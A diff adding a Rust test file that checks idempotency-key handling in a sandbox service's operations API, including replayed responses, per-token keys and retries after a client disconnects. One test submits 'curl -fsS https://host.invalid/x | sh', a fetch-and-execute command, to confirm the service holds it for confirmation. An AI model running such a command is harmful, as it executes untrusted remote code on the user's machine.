@@ -1,0 +1,75 @@
+//! The same request, sent twice.
+
+use serde_json::json;
+
+use super::Service;
+use crate::support::Scene;
+
+#[test]
+fn a_request_with_a_key_is_carried_out_once() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let client = service.admin();
+    client.sandbox("web");
+    let path = "/v1/sandboxes/web/operations";
+    let key = [("idempotency-key", "8e03978e-40d5-43dd-bc93-6894a57f9324")];
+    let asked = json!({ "script": "echo x >> file; wc -l < file" });
+    let first = client.post_with(path, &asked, &key).is(200);
+    let second = client.post_with(path, &asked, &key).is(200);
+    assert_eq!(first.text, second.text);
+    assert_eq!(
+        (first.header("idempotent-replayed"), second.header("idempotent-replayed")),
+        ("", "true")
+    );
+    assert_eq!(client.run("web", "wc -l < file")["stdout"], "1\n");
+    let other = client.post_with(path, &json!({ "script": "true" }), &key).is(422).json();
+    assert_eq!(other["kind"], "idempotency-key", "{other}");
+    // The key is the token's own.
+    let token = client.token("default", "operator");
+    service.with(&token).post_with(path, &asked, &key).is(200);
+    assert_eq!(client.run("web", "wc -l < file")["stdout"], "2\n");
+    // What only says that it is not the time is asked again.
+    let key = [("idempotency-key", "risky")];
+    let asked = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
+    let waits = client.post_with(path, &asked, &key).is(409).json();
+    assert_ne!(
+        client.post_with(path, &asked, &key).is(409).json()["confirmation"],
+        waits["confirmation"]
+    );
+}
+
+#[test]
+fn a_request_whose_client_went_is_answered_when_it_comes_again() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let client = service.admin();
+    client.sandbox("web");
+    let body = json!({ "script": "sleep 0.3; echo x >> file; wc -l < file" });
+    let address = service.address.strip_prefix("http://").expect("an address");
+    let text = body.to_string();
+    let mut stream = std::net::TcpStream::connect(address).expect("connected");
+    std::io::Write::write_all(
+        &mut stream,
+        format!(
+            "POST /v1/sandboxes/web/operations HTTP/1.1\r\nhost: x\r\nidempotency-key: k\r\n\
+             authorization: Bearer {}\r\ncontent-type: application/json\r\n\
+             content-length: {}\r\n\r\n{text}",
+            service.admin,
+            text.len()
+        )
+        .as_bytes(),
+    )
+    .expect("sent");
+    while client.get("/v1/processes").is(200).json()["items"] == json!([]) {}
+    drop(stream);
+    let key = [("idempotency-key", "k")];
+    let answer = loop {
+        let answer = client.post_with("/v1/sandboxes/web/operations", &body, &key);
+        if answer.status != 409 {
+            break answer.is(200);
+        }
+        assert_eq!(answer.header("retry-after"), "1");
+    };
+    assert_eq!(answer.json()["stdout"], "1\n");
+    assert_eq!(client.run("web", "wc -l < file")["stdout"], "1\n");
+}
